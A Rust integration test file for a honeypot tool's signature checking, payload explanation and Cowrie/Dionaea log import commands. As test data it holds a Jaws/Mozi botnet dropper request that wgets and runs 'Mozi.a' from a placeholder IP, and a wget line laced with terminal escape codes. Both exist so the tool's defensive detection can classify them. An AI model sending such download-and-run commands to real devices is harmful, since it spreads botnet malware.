//! `honeyxdp signatures`. Needs no rights.

use std::{
    fs,
    io::Write as _,
    path::Path,
    process::{Command, Stdio},
};

use serde_json::Value;

use crate::BINARY;

/// Exit status, standard output, standard error.
fn run(args: &[&str], input: &[u8]) -> (Option<i32>, String, String) {
    let mut command = Command::new(BINARY);
    let mut child =
        command.args(args).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    // A command that does not read its input may be over by now.
    let _ = child.stdin.take().unwrap().write_all(input);
    let output = child.wait_with_output().unwrap();
    let text = |bytes| String::from_utf8(bytes).unwrap();
    (output.status.code(), text(output.stdout), text(output.stderr))
}

fn written(directory: &Path, name: &str, content: impl AsRef<[u8]>) -> String {
    let path = directory.join(name);
    fs::write(&path, content).unwrap();
    path.to_str().unwrap().to_owned()
}

const RULES: &str = "version = 1\n[[exploit]]\nid = \"mine/1\"\ntitle = \"it's\\u001b mine\"\nconfidence = \"D\"\nsource = \"nobody\"\n\
                     caveat = \"all\"\nany = [{ in = \"start\", text = \"x\" }]\n";

#[test]
fn the_help_teaches() {
    let (code, out, _) = run(&["signatures", "--help"], b"");
    assert_eq!(code, Some(0));
    for word in ["check", "explain", "docs/use/signatures-and-responder.md", "--json"] {
        assert!(out.contains(word), "{word} is not in {out}");
    }
    for command in ["check", "explain"] {
        let (_, out, _) = run(&["signatures", command, "--help"], b"");
        assert!(out.contains("Examples:") && out.contains("Default: the built-in signatures"), "{out}");
    }
    assert_eq!(run(&["signatures"], b"").0, Some(2));
    assert_eq!(run(&["signatures", "explain", "--signatures"], b"").0, Some(2));
}

#[test]
fn the_built_in_rules_are_right_and_so_is_the_file_of_them() {
    let (code, out, _) = run(&["signatures", "check"], b"");
    assert_eq!(code, Some(0));
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/../contrib/signatures.toml");
    let (_, of_file, _) = run(&["signatures", "check", file], b"");
    assert_eq!(out.split_once(": ").unwrap().1, of_file.split_once(": ").unwrap().1);
    let (code, json, _) = run(&["signatures", "check", "--json"], b"");
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!((code, json["ok"].as_bool(), &json["file"]), (Some(0), Some(true), &Value::Null));
    assert!(json["exploits"].as_u64() > Some(10) && json["families"].as_u64() > Some(3), "{json}");
}

#[test]
fn every_error_of_a_file_is_named_with_its_line() {
    let directory = tempfile::tempdir().unwrap();
    let file = written(directory.path(), "r.toml", RULES.replace("\"D\"", "\"E\"").replace("\"x\"", "\"\""));
    let (code, out, err) = run(&["signatures", "check", &file], b"");
    assert_eq!((code, out.as_str()), (Some(1), ""));
    assert!(err.contains(&format!("{file}, line 5: the confidence of mine/1")), "{err}");
    assert!(err.contains(&format!("{file}, line 8: a condition of mine/1 has an empty text")), "{err}");
    assert!(err.contains("honeyxdp: 2 errors in "), "{err}");
    let (code, json, _) = run(&["signatures", "check", "--json", &file], b"");
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!((code, json["ok"].as_bool(), json["errors"][0]["line"].as_u64()), (Some(1), Some(false), Some(5)));

    let (code, _, err) = run(&["signatures", "explain", "--signatures", &file, "-"], b"x");
    assert!(code == Some(1) && err.contains("is wrong: line 5"), "{err}");
    for (file, word) in [
        (directory.path().join("none.toml").to_str().unwrap(), "No such file"),
        (directory.path().to_str().unwrap(), "directory"),
        (&written(directory.path(), "b.toml", b"\xff\xfe"), "is no text"),
        (&written(directory.path(), "t.toml", "[[exploit"), "line 1: "),
    ] {
        let (code, _, err) = run(&["signatures", "check", file], b"");
        assert!(code == Some(1) && err.contains(word), "{err}");
    }
}

#[test]
fn a_payload_is_explained_from_a_file_and_from_standard_input() {
    let directory = tempfile::tempdir().unwrap();
    let payload = b"GET /shell?cd+/tmp;wget+http://192.0.2.1:81/Mozi.a;sh+Mozi.a HTTP/1.1\r\n\r\n";
    let file = written(directory.path(), "payload", payload);
    let (code, out, err) = run(&["signatures", "explain", &file], b"");
    assert_eq!((code, err.as_str()), (Some(0), ""));
    for line in [
        "exploit  EDB-41471: Jaws",
        "by rule EDB-41471/1 in uri, confidence B: two or more public sources agree",
        "family   mozi: Mozi",
        "by rule mozi/1 in any,",
        "dropper  wget from 192.0.2.1 port 81, path \"/Mozi.a\", file \"Mozi.a\"",
    ] {
        assert!(out.contains(line), "{line} is not in {out}");
    }
    for args in [&["signatures", "explain"][..], &["signatures", "explain", "-"]] {
        assert_eq!(run(args, payload).1, out);
    }
    let (_, json, _) = run(&["signatures", "explain", "--json", &file], b"");
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(
        (json["bytes"].as_u64(), json["exploit"]["rule"].as_str()),
        (Some(payload.len() as u64), Some("EDB-41471/1"))
    );
    assert_eq!((json["family"]["name"].as_str(), json["dropper"]["port"].as_u64()), (Some("mozi"), Some(81)));

    let (code, out, _) = run(&["signatures", "explain"], b"SSH-2.0-x\r\n");
    assert_eq!((code, out.as_str()), (Some(0), "payload  11 bytes\nexploit  none\nfamily   none\ndropper  none\n"));
    let rules = written(directory.path(), "mine.toml", RULES);
    let (_, out, _) = run(&["signatures", "explain", "--signatures", &rules], b"xyz");
    assert!(out.contains("exploit  mine: it's\\u{1b} mine\n") && out.contains("confidence D"), "{out}");
}

#[test]
fn text_of_an_attacker_does_nothing_to_a_terminal() {
    let hostile = "wget http://192.0.2.1/\u{1b}[2J\u{9b}31m\u{202e}\u{7}x;\r\n";
    for args in [&["signatures", "explain"][..], &["signatures", "explain", "--json"]] {
        let (_, out, _) = run(args, hostile.as_bytes());
        assert!(out.chars().all(|c| c == '\n' || matches!(c, ' '..='~')), "{out:?}");
        assert!(out.contains("192.0.2.1"), "{out}");
    }
    let (_, json, _) = run(&["signatures", "explain", "--json"], hostile.as_bytes());
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["dropper"]["path"].as_str(), Some("/\u{1b}[2J\u{9b}31m\u{202e}\u{7}x"), "JSON gives it back");
}

#[test]
fn logs_become_payloads_of_an_archive_and_a_log_that_comes_again_adds_nothing() {
    let directory = tempfile::tempdir().unwrap();
    let (archive, logs) = (
        directory.path().join("archive"),
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../honeyxdp-signatures/tests/signatures/logs"),
    );
    let [cowrie, dionaea] = ["cowrie.json", "dionaea.json"].map(|name| logs.join(name).to_str().unwrap().to_owned());
    let import = |logs: &[&str]| -> Value {
        let mut args = vec!["import", "cowrie", "--json", "--archive", archive.to_str().unwrap()];
        args.extend(logs);
        let (code, out, error) = run(&args, b"");
        assert_eq!(code, Some(0), "{error}");
        serde_json::from_str(&out).unwrap()
    };
    let first = import(&[&cowrie]);
    let count = |answer: &Value, what: &str| answer[what].as_u64().unwrap();
    assert!(count(&first, "payloads") >= 1 && count(&first, "logins") >= 2 && count(&first, "broken") >= 1, "{first}");
    assert_eq!(count(&first, "known"), 0);
    let rows = count(&first, "payloads") + count(&first, "logins");

    let again = import(&[&cowrie, &dionaea]);
    assert_eq!(count(&again, "known"), rows, "{again}");
    let more = count(&again, "payloads") + count(&again, "logins");
    assert!(more > 0, "{again}");
    let checked = honeyxdp_archive::check(&honeyxdp_archive::Archive::new(&archive)).unwrap();
    assert_eq!((checked.problems.len(), checked.payloads), (0, rows + more), "{checked:?}");
    assert_eq!(count(&import(&[&dionaea, &cowrie]), "known"), rows + more);

    // The botnet's own words tell its family.
    let mut families = Vec::new();
    let archive = honeyxdp_archive::Archive::new(&archive);
    let date = "2019-11-05".parse().unwrap();
    archive
        .each_payload("honeypot", date, |key| families.push(String::from_utf8_lossy(key.payload).into_owned()))
        .unwrap();
    assert!(families.iter().any(|payload| payload.contains("/bin/busybox MIRAI")), "{families:?}");

    let (code, _, error) = run(&["import", "cowrie", "--archive", "/proc/nowhere", "/nonexistent/log"], b"");
    assert!(code == Some(1) && error.contains("cannot write to the archive"), "{error}");
    let (code, _, error) =
        run(&["import", "cowrie", "--archive", directory.path().to_str().unwrap(), "/nonexistent/log"], b"");
    assert!(code == Some(1) && error.contains("/nonexistent/log"), "{error}");
    let (code, _, error) =
        run(&["import", "cowrie", "--archive", directory.path().to_str().unwrap(), "-"], b"no log at all\n");
    assert!(code == Some(1) && error.contains("not a log of Cowrie or Dionaea"), "{error}");
}
